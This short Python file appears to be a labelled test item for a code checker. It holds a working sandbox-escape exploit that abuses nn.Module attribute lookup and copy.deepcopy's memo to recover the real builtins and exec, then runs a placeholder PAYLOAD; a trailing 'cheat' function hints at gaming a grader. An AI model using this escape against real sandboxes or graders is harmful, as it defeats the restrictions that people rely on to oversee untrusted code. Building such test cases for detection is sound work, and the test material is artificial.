"""Total escape: a layer with a child that is called __deepcopy__.

copy.deepcopy looks that up on the object, where nn.Module.__getattr__ finds the child, and calls it with the memo. The child
says there what the copies of 7 and "__add__" are, and the copy of the method 7 .__add__ is the real getattr of these.
"""

# question: q3
# may earn: 0
# witness: yes
# kind: outside

import copy
import sys

from torch import nn


class Child(nn.Module):
    def __init__(self, thing, name):
        super().__init__()
        self.thing = [thing]
        self.wanted = name

    def forward(self, memo):
        memo[id(7)] = self.thing[0]
        memo[id("__add__")] = self.wanted
        return self


def read(thing, name):
    layer = nn.Flatten()
    layer.add_module("__deepcopy__", Child(thing, name))
    return copy.deepcopy([layer, (7).__add__])[1]


builtins = read(print, "__self__")
run = read(builtins, "exec")
run(PAYLOAD, {"__builtins__": builtins})


def cheat(layer, x, shape):
    return pool(x, layer.k, layer.s, layer.p)
